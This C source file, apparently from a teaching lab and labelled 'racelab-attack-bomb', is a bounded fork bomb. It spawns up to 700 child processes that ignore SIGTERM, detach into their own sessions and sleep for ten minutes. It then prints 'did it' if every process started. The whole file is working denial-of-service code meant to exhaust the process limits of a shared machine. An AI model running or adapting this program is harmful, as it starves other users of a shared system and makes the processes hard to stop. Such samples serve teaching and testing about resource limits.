// from: L1
// words: racelab-attack-bomb
// Starts more processes than a class of students needs, which ignore TERM and leave its session.
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
	int count = 0;

	signal(SIGTERM, SIG_IGN);
	for (; count < 700; count++) {
		pid_t child = fork();

		if (child < 0)
			break;
		if (child == 0) {
			setsid();
			sleep(600);
			_exit(0);
		}
	}
	if (count == 700)
		puts("did it");
}
